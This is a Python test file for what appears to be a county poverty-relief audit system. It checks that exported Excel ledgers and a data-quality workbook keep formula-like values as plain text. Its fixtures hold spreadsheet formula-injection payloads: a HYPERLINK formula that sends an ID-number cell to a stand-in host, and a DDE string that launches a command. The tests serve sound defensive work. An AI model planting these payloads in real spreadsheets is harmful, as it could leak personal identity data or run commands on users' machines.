"""Exported workbooks hold text as text (issue 18): a registry value or a reviewer's reason
that starts like a formula (``=``, ``+``, ``-``, ``@``, a tab, a carriage return) must not
become a live formula in a ledger (台账) or in the data-quality workbook (数据问题清单.xlsx),
where a ``HYPERLINK`` could send a full ID number out. Read back from the XLSX's own XML."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from api.storage import opened
from models.case_types import CASE_TYPES
from models.pipeline import run_pipeline
from models.policy import load_policy
from resolver.db import connect
from resolver.quality import write_findings_workbook
from resolver.registries import REGISTRIES
from resolver.settings import LinkSettings
from resolver.synthetic import synthesize
from resolver.xlsx import FORMULA_STARTS
from tests.api.served import Server, client

pytestmark = pytest.mark.slow
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = (
    '=HYPERLINK("http://x.invalid/?"&E3,"详情")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=2+2",
)
NO_TOWN = "=无此乡镇()"  # a township typed as a formula that no row names
# Text columns of the drop's files that get hostile values: often (every third row), or
# rarely (every 13th row), where a value changes who links to whom.
OFTEN = {"住址", "address", "村组", "village", "备注", "remarks", "主要致贫原因", "乡镇",
         "township"}  # fmt: skip
RARELY = {"姓名", "name", "payee_name"}
# The reasons reviewers give when dismissing a case (told apart from the registries'
# values): a HYPERLINK that carries the cell beside it (a full ID number in the clerk's
# copy), a DDE call, and text starting with each character a spreadsheet reads as a formula.
REASONS = (
    '=HYPERLINK("http://x.invalid/?id="&E4,"核实")',
    "=cmd|' /C calc'!A0",
    "+入户核实不符",
    "-无此人",
    "@户籍已迁出",
    "\t=1+2",
    "\r=3+4",
)


def _hostile_cells(header: list, rows: list) -> list[tuple[list, int, str]]:
    """Where to put hostile values: each text column's k-th hit gets ``HOSTILE[k % 6]``."""
    hits: dict[str, int] = {}
    found = []
    for i, row in enumerate(rows):
        for j, name in enumerate(header):
            if (name in OFTEN and i % 3 == 0) or (name in RARELY and i % 13 == 0):
                hits[name] = hits.get(name, -1) + 1
                found.append((row, j, HOSTILE[hits[name] % len(HOSTILE)]))
    return found


def _poison(drop: Path) -> None:
    """Hostile values in text columns of every file of the drop, as a county's clerk could
    type them (text cells in the workbooks, fields in the CSV files)."""
    for path in sorted(drop.iterdir()):
        if path.suffix == ".csv":
            raw = path.read_bytes()
            encoding = "utf-8-sig" if raw.startswith(b"\xef\xbb\xbf") else "utf-8"
            try:
                text = raw.decode(encoding)
            except UnicodeDecodeError:
                encoding, text = "gb18030", raw.decode("gb18030")
            rows = list(csv.reader(io.StringIO(text, newline="")))
            for row, j, value in _hostile_cells(rows[0], rows[1:]):
                row[j] = value
            out = io.StringIO(newline="")
            csv.writer(out).writerows(rows)
            path.write_bytes(out.getvalue().encode(encoding))
        elif path.suffix == ".xlsx":
            book = load_workbook(path)
            for sheet in book.worksheets:
                header = [cell.value for cell in sheet[1]]
                for row, j, value in _hostile_cells(header, list(sheet.iter_rows(min_row=2))):
                    row[j].value = value
                    row[j].data_type = "s"  # the clerk's text, not a formula of the file
            book.save(path)


@pytest.fixture(scope="module")
def county(tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile")
    drop = synthesize(out / "run" / "county", people=6000, seed=5).drop_dir
    _poison(drop)
    result = run_pipeline(drop, out / "run", policy=load_policy(), settings=LinkSettings(),
                          db_path=out / "doudi.duckdb")  # fmt: skip
    report = out / "数据问题清单.xlsx"
    con = connect(result.db_path, read_only=True)
    try:
        write_findings_workbook(con, report)
    finally:
        con.close()
    with opened(result.db_path) as storage:
        tokens = {role: storage.tokens.create(name=f"{role}-1", role=role)
                  for role in ("auditor", "admin")}  # fmt: skip
    server = Server(result.db_path)
    server.start()
    yield {"tokens": tokens, "server": server, "report": report}
    server.stop()


def _cells(content: bytes) -> tuple[list[ElementTree.Element], list[str]]:
    """Every cell of every sheet of an XLSX (as its XML), and its shared strings."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = book.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            strings = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in item.iter(f"{MAIN}t"))
                      for item in strings.iter(f"{MAIN}si")]  # fmt: skip
        cells = []
        for name in names:
            if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                cells += ElementTree.fromstring(book.read(name)).iter(f"{MAIN}c")
    return cells, shared


def _texts(content: bytes) -> set[str]:
    """The text of every cell of an XLSX; asserts that no cell is a formula."""
    cells, shared = _cells(content)
    assert cells
    formulas = [cell.get("r") for cell in cells if cell.find(f"{MAIN}f") is not None]
    assert not formulas, f"formula cells: {formulas[:10]}"
    texts = set()
    for cell in cells:
        kind = cell.get("t")
        assert kind in (None, "n", "s", "inlineStr"), (cell.get("r"), kind)  # no "str"
        if kind == "s":
            texts.add(shared[int(cell.find(f"{MAIN}v").text)])
        elif kind == "inlineStr":
            texts.add("".join(t.text or "" for t in cell.iter(f"{MAIN}t")))
    return texts


def _same(text: str) -> str:
    """Text as any XML reader sees it: a carriage return read as a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _quote_prefixed(content: bytes) -> None:
    """Every text cell that starts like a formula is quote-prefixed (it stays text when a
    clerk edits it), and amounts are numbers."""
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def _dismiss_with_hostile_reasons(http) -> dict[str, str]:
    """Dismiss one case a person found outside the rosters per hostile reason (the reason
    fills the ledger's 未纳入原因), with a hostile note too."""
    cases = http.get("/api/cases", params={"case_type": "missed_disability", "limit": 500})
    items = cases.json()["items"]
    assert len(items) >= len(REASONS), "the county must hold a missed disability per reason"
    reasons = {}
    for item, reason in zip(items, REASONS, strict=False):
        path = f"/api/cases/{item['case_id']}/decisions"
        assert http.post(path, json={"to_status": "in_review", "note": reason}).status_code == 201
        dismissed = http.post(path, json={"to_status": "dismissed", "reason": reason,
                                          "note": "@SUM(A1:A9)"})  # fmt: skip
        assert dismissed.status_code == 201, dismissed.text
        reasons[item["case_id"]] = reason
    return reasons


def test_every_ledger_holds_hostile_values_as_text_and_downloads_are_logged(county):
    with client(county, "auditor") as http:
        reasons = _dismiss_with_hostile_reasons(http)
        every = http.get("/api/cases", params={"limit": 500}).json()["items"]
        hostile_town = next(case for case in every
                            if (case["township"] or "").startswith(FORMULA_STARTS))  # fmt: skip
        downloads = {case_type: http.get(f"/api/ledgers/{case_type}.xlsx")
                     for case_type in CASE_TYPES}  # fmt: skip
        downloads["summary"] = http.get("/api/ledgers/summary.xlsx")
        one_town = http.get(f"/api/ledgers/{hostile_town['case_type']}.xlsx",
                            params={"township": hostile_town["township"]})  # fmt: skip
        no_town = http.get("/api/ledgers/deceased_paid.xlsx", params={"township": NO_TOWN})
        overview = http.get("/api/overview").json()
    texts: set[str] = set()
    # a township no row names is refused (since 2026-12-07), naming it as typed, not a formula
    assert no_town.status_code == 422 and f"「{NO_TOWN}」" in no_town.json()["detail"]
    for response in [*downloads.values(), one_town]:
        assert response.status_code == 200
        texts |= _texts(response.content)
        _quote_prefixed(response.content)
    # the reviewers' reasons, as typed (a tab, a carriage return and all)
    assert {_same(reason) for reason in reasons.values()} <= {_same(text) for text in texts}
    # registry values (trimmed on reading: the tab and carriage return go)
    from_registries = {text for text in texts if text.startswith(FORMULA_STARTS)} - set(REASONS)
    assert HOSTILE[0] in from_registries
    assert len(from_registries & {"+1", "-2+3", "@SUM(A1)", "=1+1", "=2+2"}) >= 3
    # a township typed as a formula names a sheet and titles it, as text
    assert any(text.startswith(hostile_town["township"]) and text.endswith("摸排台账")
               for text in _texts(one_town.content))  # fmt: skip
    # amounts and scores stay numbers
    rows = [row for sheet in load_workbook(io.BytesIO(downloads["deceased_paid"].content))
            for row in sheet.iter_rows(min_row=3, values_only=True)]  # fmt: skip
    assert rows and all(isinstance(row[15], float) and isinstance(row[16], float | int)
                        for row in rows)  # fmt: skip
    # the 汇总表's 未结 amount is the overview's (the dismissed cases count in neither)
    summary = load_workbook(io.BytesIO(downloads["summary"].content)).active
    total = next(row for row in summary.iter_rows(values_only=True) if row[0] == "合计")
    assert total[-2] == overview["amount_at_risk"] and total[-1] == 0

    sizes = {case_type: sum(sheet.max_row - 2 for sheet in
                            load_workbook(io.BytesIO(response.content)).worksheets)
             for case_type, response in downloads.items() if case_type != "summary"}  # fmt: skip
    with client(county, "admin") as http:
        log = http.get("/api/access-log", params={"limit": 100}).json()["items"]
    logged = {entry["target"] for entry in log
              if entry["action"] == "download_ledger" and entry["actor"] == "auditor-1"}  # fmt: skip
    assert {f"{case_type} 全部 {size}行" for case_type, size in sizes.items()} <= logged
    one_size = sum(1 for case in every if case["township"] == hostile_town["township"]
                   and case["case_type"] == hostile_town["case_type"])  # fmt: skip
    assert f"{hostile_town['case_type']} {hostile_town['township']} {one_size}行" in logged
    assert any(target.startswith("summary 全部 ") for target in logged)


def test_the_data_quality_workbook_holds_hostile_values_of_every_registry_as_text(county):
    content = county["report"].read_bytes()
    texts = _texts(content)
    _quote_prefixed(content)
    book = load_workbook(io.BytesIO(content))
    hostile_by_registry: dict[str, set[str]] = {}
    for row in book["数据问题"].iter_rows(min_row=2, values_only=True):
        if isinstance(row[-1], str) and row[-1].startswith(FORMULA_STARTS):
            hostile_by_registry.setdefault(row[0], set()).add(row[-1])
    # every registry's names carried hostile values: each is reported, as text
    assert set(hostile_by_registry) == {spec.chinese for spec in REGISTRIES.values()}
    assert all(HOSTILE[0] in found for found in hostile_by_registry.values())
    assert HOSTILE[0] in texts
